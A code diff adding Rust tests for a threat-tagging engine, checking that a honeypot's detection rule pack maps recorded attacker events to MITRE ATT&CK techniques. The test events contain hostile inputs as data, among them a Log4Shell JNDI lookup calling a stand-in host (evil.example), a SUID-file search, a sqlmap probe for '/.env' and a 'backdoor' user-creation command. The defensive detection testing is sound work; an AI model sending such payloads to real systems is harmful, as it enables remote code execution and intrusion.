@@ -1,0 +1,214 @@
+//! DECNET compatibility: DECNET's own rule pack, loaded unchanged from
+//! `../shared/reference/decnet-rules`, must tag the spec §12 examples exactly
+//! (uuid, rule, technique, sub-technique, tactic, confidence, evidence with
+//! key order) and fire the right pattern rules on DECNET's labelled corpus.
+//!
+//! When `../shared` is absent these tests print that they were skipped.
+
+use serde_json::{json, Value};
+use std::path::{Path, PathBuf};
+use ttp_engine::engine::{Evaluation, Snapshot};
+use ttp_engine::event::TaggerEvent;
+use ttp_engine::lifter::Lifter;
+use ttp_engine::rule::load::load_dir;
+use ttp_engine::rule::parse::LoadOptions;
+use ttp_engine::tag::{Tag, TagConfig};
+
+fn shared() -> Option<PathBuf> {
+    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared");
+    if p.join("reference/decnet-rules").is_dir() {
+        Some(p)
+    } else {
+        eprintln!("skipped: ../shared is absent (DECNET fixtures not available)");
+        None
+    }
+}
+
+fn decnet_snapshot(shared: &Path) -> Snapshot {
+    let loaded = load_dir(&shared.join("reference/decnet-rules"), LoadOptions::default()).unwrap();
+    assert_eq!(loaded.errors(), 0, "{:#?}", loaded.diagnostics);
+    assert_eq!(loaded.rules.len(), 59);
+    Snapshot::build(&loaded.rules)
+}
+
+fn tag(snap: &Snapshot, event: Value) -> Vec<Tag> {
+    let ev = TaggerEvent::from_json(event).unwrap();
+    let mut out = Vec::new();
+    snap.tag_event(&ev, &TagConfig::default(), Evaluation::Indexed, &mut out);
+    let mut brute = Vec::new();
+    snap.tag_event(&ev, &TagConfig::default(), Evaluation::BruteForce, &mut brute);
+    let key = |t: &Vec<Tag>| t.iter().map(|t| t.uuid.clone()).collect::<Vec<_>>();
+    assert_eq!(key(&out), key(&brute), "index and brute force disagree");
+    out
+}
+
+/// (rule, technique, sub, tactic, confidence, uuid)
+type Row = (&'static str, &'static str, Option<&'static str>, &'static str, f64, &'static str);
+
+fn assert_tags(tags: &[Tag], rows: &[Row], evidence: &[Value]) {
+    assert_eq!(tags.len(), rows.len(), "{tags:#?}");
+    for (i, (t, r)) in tags.iter().zip(rows).enumerate() {
+        assert_eq!(t.rule_id, r.0, "tag {i}");
+        assert_eq!(t.technique_id, r.1, "tag {i}");
+        assert_eq!(t.sub_technique_id.as_deref(), r.2, "tag {i}");
+        assert_eq!(t.tactic, r.3, "tag {i}");
+        assert_eq!(t.confidence.to_bits(), r.4.to_bits(), "tag {i}");
+        assert_eq!(t.uuid, r.5, "tag {i}");
+        assert_eq!(t.attack_release, "v15.1");
+        let want = &evidence[i.min(evidence.len() - 1)];
+        // Key order matters: compare the serialised text.
+        assert_eq!(
+            serde_json::to_string(&t.evidence).unwrap(),
+            serde_json::to_string(want).unwrap(),
+            "evidence of tag {i}"
+        );
+    }
+}
+
+#[test]
+fn e1_command_two_rules_with_aux_fields() {
+    let Some(sh) = shared() else { return };
+    let snap = decnet_snapshot(&sh);
+    let tags = tag(
+        &snap,
+        json!({"source_kind":"command","source_id":"cmd-1","attacker_uuid":"att-1","session_id":"s-1","decky_id":"d-1",
+               "payload":{"command_text":"/bin/sh -c 'id'","uid":"0","user":"root","src":"10.0.0.5","extra":"ignored"}}),
+    );
+    assert_tags(
+        &tags,
+        &[
+            ("R0010", "T1059", Some("T1059.004"), "TA0002", 0.9, "706e10fc-1904-5edd-b654-19ba614d119a"),
+            ("R0011", "T1059", None, "TA0002", 0.7, "e8b8b450-9852-5f31-a0d0-658c8cf90858"),
+        ],
+        &[json!({"command_text":"/bin/sh -c 'id'","uid":"0","user":"root","src":"10.0.0.5"})],
+    );
+    assert_eq!(tags[0].session_id.as_deref(), Some("s-1"));
+    assert_eq!(tags[0].decky_id.as_deref(), Some("d-1"));
+    assert_eq!(tags[0].mitre_url.as_deref(), Some("https://attack.mitre.org/techniques/T1059/004"));
+    assert_eq!(tags[1].mitre_url.as_deref(), Some("https://attack.mitre.org/techniques/T1059"));
+}
+
+#[test]
+fn e2_multi_emit_and_overlapping_rule() {
+    let Some(sh) = shared() else { return };
+    let snap = decnet_snapshot(&sh);
+    let tags = tag(
+        &snap,
+        json!({"source_kind":"command","source_id":"cmd-2","attacker_uuid":"att-1",
+               "payload":{"command_text":"find / -perm -u=s -type f 2>/dev/null","pwd":"/tmp"}}),
+    );
+    assert_tags(
+        &tags,
+        &[
+            ("R0015", "T1083", None, "TA0007", 0.85, "b7cadd3d-1be9-5e25-a04f-5cc27d2d0c2e"),
+            ("R0015", "T1548", Some("T1548.001"), "TA0004", 0.95, "b00fd01e-0b46-5d9b-8c2d-2567dc8c4e71"),
+            ("R0016", "T1083", None, "TA0007", 0.65, "cbba843b-bc1b-5c93-8596-fd5695dd7f0c"),
+        ],
+        &[json!({"command_text":"find / -perm -u=s -type f 2>/dev/null","pwd":"/tmp"})],
+    );
+}
+
+#[test]
+fn e3_http_request_engine_half() {
+    let Some(sh) = shared() else { return };
+    let snap = decnet_snapshot(&sh);
+    let tags = tag(
+        &snap,
+        json!({"source_kind":"http_request","source_id":"http-1","attacker_uuid":"att-2",
+               "payload":{"raw_url":"/.env?x=1","user_agent":"sqlmap/1.7.2#stable (https://sqlmap.org)","request_path":"/.env"}}),
+    );
+    // The engine's tags come first; R0036 (behavioral) follows with the lifters.
+    let engine: Vec<Tag> = tags.into_iter().filter(|t| t.rule_id == "R0007").collect();
+    assert_tags(
+        &engine,
+        &[
+            ("R0007", "T1190", None, "TA0001", 0.9, "e6771dc3-751e-5d96-8f06-1141f9beffc6"),
+            ("R0007", "T1595", Some("T1595.002"), "TA0043", 0.9, "2586ef20-b8aa-5ed9-b30b-7e54e972a2a7"),
+        ],
+        &[json!({"user_agent":"sqlmap/1.7.2#stable (https://sqlmap.org)","raw_url":"/.env?x=1"})],
+    );
+}
+
+#[test]
+fn e4_log4j_object_evidence_copied_verbatim() {
+    let Some(sh) = shared() else { return };
+    let snap = decnet_snapshot(&sh);
+    let tags = tag(
+        &snap,
+        json!({"source_kind":"http_request","source_id":"http-2","attacker_uuid":"att-2",
+               "payload":{"raw_url":"/?q=${jndi:ldap://evil.example/a}","headers":{"X-Api":"1"}}}),
+    );
+    assert_tags(
+        &tags,
+        &[("R0008", "T1190", None, "TA0001", 0.95, "7f481e62-de4c-58c6-9ce2-0fc3f4e71215")],
+        &[json!({"raw_url":"/?q=${jndi:ldap://evil.example/a}","headers":{"X-Api":"1"}})],
+    );
+}
+
+#[test]
+fn e18_commands_that_produce_nothing() {
+    let Some(sh) = shared() else { return };
+    let snap = decnet_snapshot(&sh);
+    for cmd in ["ls\nwhoami", "lsb_release -a", "useradd -m -s /bin/bash backdoor"] {
+        let tags = tag(
+            &snap,
+            json!({"source_kind":"command","source_id":"c","attacker_uuid":"a","payload":{"command_text":cmd}}),
+        );
+        assert!(tags.is_empty(), "{cmd:?}: {tags:#?}");
+    }
+    let tags = tag(
+        &snap,
+        json!({"source_kind":"brand_new_kind","source_id":"c","attacker_uuid":"a","payload":{"x":1}}),
+    );
+    assert!(tags.is_empty());
+}
+
+/// Labels in the corpus that DECNET itself does not fire (see
+/// `../shared/README.md`): regex misses in R0018 and R0024.
+const KNOWN_MISSES: [(&str, &str); 3] = [
+    ("lsb_release", "R0018"),
+    ("useradd", "R0024"),
+    ("adduser", "R0024"),
+];
+
+#[test]
+fn corpus_rows_fire_their_pattern_rules() {
+    let Some(sh) = shared() else { return };
+    let snap = decnet_snapshot(&sh);
+    let engine_rules: Vec<String> = snap
+        .index(Lifter::RuleEngine)
+        .rules()
+        .iter()
+        .map(|r| r.rule_id.clone())
+        .collect();
+    let dir = sh.join("reference/decnet-corpus");
+    let mut checked = 0;
+    for entry in std::fs::read_dir(&dir).unwrap() {
+        let path = entry.unwrap().path();
+        for line in std::fs::read_to_string(&path).unwrap().lines() {
+            let row: Value = serde_json::from_str(line).unwrap();
+            let label = row["label"].as_str().unwrap();
+            let event = json!({"source_kind": row["source_kind"], "source_id": label,
+                               "attacker_uuid": "att", "payload": row["payload"]});
+            let mut fired: Vec<String> = tag(&snap, event)
+                .into_iter()
+                .map(|t| t.rule_id)
+                .filter(|r| engine_rules.contains(r))
+                .collect();
+            fired.dedup();
+            fired.sort();
+            let mut want: Vec<String> = row["expected_rule_ids"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|v| v.as_str().unwrap().to_string())
+                .filter(|r| engine_rules.contains(r))
+                .filter(|r| !KNOWN_MISSES.contains(&(label, r.as_str())))
+                .collect();
+            want.sort();
+            assert_eq!(fired, want, "{}: {label}", path.display());
+            checked += 1;
+        }
+    }
+    assert!(checked >= 90, "only {checked} corpus rows read");
+}
